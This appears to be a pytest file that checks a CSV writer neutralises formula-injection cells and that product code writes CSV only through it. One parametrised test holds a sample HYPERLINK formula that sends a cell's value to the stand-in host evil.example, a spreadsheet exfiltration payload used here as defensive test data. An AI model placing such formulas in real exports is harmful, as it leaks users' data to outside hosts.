"""Formula cells are neutralised wherever leadsync writes CSV."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leadsync.orchestration.csv_cells import FORMULA_TRIGGERS, neutralize, writer

REPO = Path(__file__).resolve().parents[2]
PRODUCT = ("ingestion", "orchestration", "reporting")
# SQL keywords in capitals only (COPY ... csv), so prose such as "the copy ... the CSV file" is not a writer
CSV_WRITERS = re.compile(
    r"csv\.writer|csv\.DictWriter|to_csv|\bCOPY\b.*\b(?i:csv)\b|(?i:format)\s*'?(?i:csv)\b"
)
# Stand-ins for the outside world write what the platform writes (Salesforce Bulk API results).
OUTSIDE = ("ingestion/sandboxes/",)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_trigger_is_written_as_text(prefix):
    hostile = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"click")'
    out = io.StringIO()
    writer(out).writerow(["ok", hostile, 42, None])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells == ["ok", "'" + hostile, "42", ""]


@given(st.text())
def test_no_cell_starts_with_a_trigger_and_others_are_untouched(text):
    out = neutralize(text)
    assert not out.startswith(FORMULA_TRIGGERS)
    assert out == text or out == "'" + text


def test_every_product_csv_writer_neutralises():
    offenders = []
    for folder in PRODUCT:
        for path in (REPO / folder).rglob("*.py"):
            rel = path.relative_to(REPO).as_posix()
            if rel.startswith(OUTSIDE) or rel == "orchestration/csv_cells.py":
                continue
            text = path.read_text(encoding="utf-8")
            for n, line in enumerate(text.splitlines(), 1):
                if CSV_WRITERS.search(line) and "csv_cells" not in text:
                    offenders.append(f"{rel}:{n}: {line.strip()}")
    assert offenders == [], "write CSV through leadsync.orchestration.csv_cells.writer"
